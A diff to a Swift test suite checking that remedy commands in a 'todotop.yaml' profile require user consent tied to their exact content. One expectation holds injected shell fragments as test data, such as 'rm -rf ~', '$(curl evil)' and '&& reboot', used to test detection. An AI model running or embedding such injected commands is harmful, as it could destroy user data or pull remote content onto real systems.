@@ -62,14 +62,14 @@ private func profile(_ text: String, _ origin: Profile.Origin) throws -> Profile
     let asked = found.remediesNeedingConsent
     #expect(asked.map(\.checks) == [["1.1", "1.3"], ["1.2"]])
     #expect(asked[0].words == ["kubectl", "delete", "--all; rm -rf ~", "$(curl evil)", "`id`", "| tee", "&& reboot"])
-    #expect(asked[0].hash != asked[1].hash)
+    #expect(asked[0].content != asked[1].content)
     #expect(try profile(.user(path: "todotop.yaml")).remediesNeedingConsent.isEmpty)
   }
 
   @Test func `consent is for what was read, and for nothing else`() throws {
-    func hash(_ remedy: String) throws -> String {
+    func hash(_ remedy: String) throws -> [String] {
       let text = "phases: [{name: a, checks: [{kind: replicas, remedy: \(remedy)}]}]\n"
-      return try profile(text, .workingFolder(path: "todotop.yaml")).consentHash
+      return try profile(text, .workingFolder(path: "todotop.yaml")).remediesNeedingConsent.map(\.content)
     }
     #expect(try hash("[kubectl, a b]") == hash("[kubectl, \"a b\"]"))
     #expect(try hash("[kubectl, a, b]") != hash("[kubectl, a b]"))
